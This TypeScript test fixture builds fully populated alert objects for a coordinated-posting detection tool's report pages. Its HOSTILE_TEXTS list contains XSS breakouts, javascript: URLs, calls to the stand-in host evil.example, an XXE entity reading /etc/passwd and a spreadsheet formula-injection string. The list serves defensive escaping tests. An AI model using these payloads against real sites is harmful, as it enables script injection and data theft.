/** Alerts with everything in them, of any texts; and texts that try to get out of a page. */
import type { Alert, AlertSample } from '../../src/model.ts';
import type { ReportAlert } from '../../src/report/alert.ts';
import { decodeReportAlert } from '../../src/report/alert.ts';
import type { Evidence } from '../../src/report/evidence.ts';
import { alertOf, type AlertPost } from '../support/alerts.ts';

/** What a browser does with each of them is in `pages.test.ts`. */
export const HOSTILE_TEXTS = [
  `</script><script>window.pwned=1;fetch("http://evil.example/a")</script>`,
  `"><img src=x onerror="window.pwned=1"><img src="http://evil.example/b.png">`,
  `' onmouseover='window.pwned=1' autofocus onfocus='window.pwned=1`,
  '` onclick=window.pwned=1 `${window.pwned=1}`',
  `</title></style></textarea></noscript><svg/onload=window.pwned=1>`,
  `<style>@import "http://evil.example/c.css"</style><link rel=stylesheet href=http://evil.example/d.css>`,
  `<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data=http://evil.example/e></object>`,
  `javascript:window.pwned=1 //`,
  `&lt;b&gt; &amp;amp; &#x3c;script&#x3e; &nbsp`,
  `<!-- --><!--> ]]> <![CDATA[ <?xml version="1.0"?> <!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>`,
  `line one\nline two\r\nline three\rline four\ttab`,
  `separators \u2028 and \u2029 and \u0085 end`,
  `turned \u202Egnp.exe\u202C and isolated \u2067abc`,
  `never closed \u202E\u202D\u2066 evil`,
  `zero\u200Bwidth pa\u00ADss\u2060word \uFEFF`,
  `السلام عليكم ورحمة الله وبركاته 123 <b>لا</b>`,
  `שלום "עולם" <i>`,
  `नमस्ते क्‍ष 👩‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿 e\u0301`,
  `=cmd|' /C calc'!A0\n@SUM(1;=2)`,
  `\uFFFE\uFFFF\u0001\u001B[31m red`,
  '<x'.repeat(30_000),
] as const;

export function postsOf(texts: readonly string[], accounts = 3, seconds = 7): AlertPost[] {
  return texts.flatMap((text, i) =>
    Array.from({ length: accounts }, (_, k) => ({
      account: `account-${i * accounts + k}`,
      text,
      seconds: (i * accounts + k) * seconds,
    })),
  );
}

/** An alert with every optional part, whose every word of strangers is `spice` or one of the texts. */
export function fullAlert(id: string, texts: readonly string[], spice: string, changes: Partial<Alert> = {}): Alert {
  const posts = postsOf(texts);
  const base = alertOf(id, posts, { samplesListed: 1000, variantsListed: 1000, accountsListed: 1000 });
  const samples: AlertSample[] = base.samples.listed.map((sample, i) => ({
    ...sample,
    id: `post-${i}`,
    urls: [
      'https://news.example/story',
      'javascript:window.pwned=1',
      'http://bücher.example/ü ?q=a|b[1]#x#%zz',
      `http://evil.example/"${spice}`,
    ],
  }));
  return {
    ...base,
    disclosedCount: 1,
    removedCount: 2,
    forwardCount: 3,
    severity: {
      score: 61,
      parts: { accounts: 30, speed: 20, likeness: 15, obfuscation: 6, freshness: 5, repeats: 5, explained: -20 },
    },
    accounts: {
      ...base.accounts,
      listed: base.accounts.listed.map((account, i) => ({
        ...account,
        platform: ['bluesky', 'x', 'mastodon'][i % 3]!,
        handle: i % 4 === 0 ? `${spice} ${i}` : `handle_${i}`,
        accountCreatedAt: new Date(Date.UTC(2012 + (i % 13), i % 12, 1 + (i % 28))).toISOString(),
        earlierCampaigns: i % 5,
        ...(i === 1 ? { disclosure: spice } : {}),
      })),
    },
    samples: {
      ...base.samples,
      listed: samples.map((sample, i) => ({
        ...sample,
        platform: ['bluesky', 'x', 'mastodon'][i % 3]!,
        source: { topic: spice, partition: 2, offset: '9007199254740993' },
      })),
    },
    template: {
      parts: [{ text: spice }, { slot: 1 }, { text: ' votes for ' }, { slot: 2 }],
      slots: [
        {
          fills: [
            { text: spice, postCount: 9 },
            { text: '', postCount: 2 },
          ],
          leftOut: 3,
        },
        { fills: [{ text: 'Ann', postCount: 4 }], leftOut: 0 },
      ],
      share: 0.84,
    },
    creation: {
      knownCount: 40,
      concentration: 0.62,
      within: { days: 14, accountCount: 22, from: '2025-01-10' },
      meaning: spice,
    },
    explanations: [
      {
        name: 'link_headline',
        share: 0.62,
        postCount: 28,
        description: spice,
        evidence: spice,
        posts: [
          { platform: 'x', id: '1850' },
          { platform: spice, id: spice },
        ],
      },
      { name: 'our_own_rule', share: 0.004, postCount: 1, description: 'Ours.', evidence: 'One.', posts: [] },
    ],
    techniques: [
      { framework: 'DISARM', version: '1.6', id: 'T0084.001', name: 'Use Copypasta', because: spice },
      { framework: 'DISARM', version: '1.6', id: 'T0049', name: 'Flood Information Space', because: 'speed' },
    ],
    platforms: { bluesky: 1, x: 1, mastodon: 1 },
    engine: spice,
    topology: spice,
    ...changes,
  } as Alert;
}

/** As it comes out of a file. */
function decoded(alert: Alert): ReportAlert {
  const line = decodeReportAlert(JSON.stringify(alert));
  if (line.kind === 'rejection') throw new Error(line.detail);
  return line.value;
}

export function evidenceOf(alert: Alert): Evidence {
  return { alert: decoded(alert), mergedIds: [], members: undefined };
}
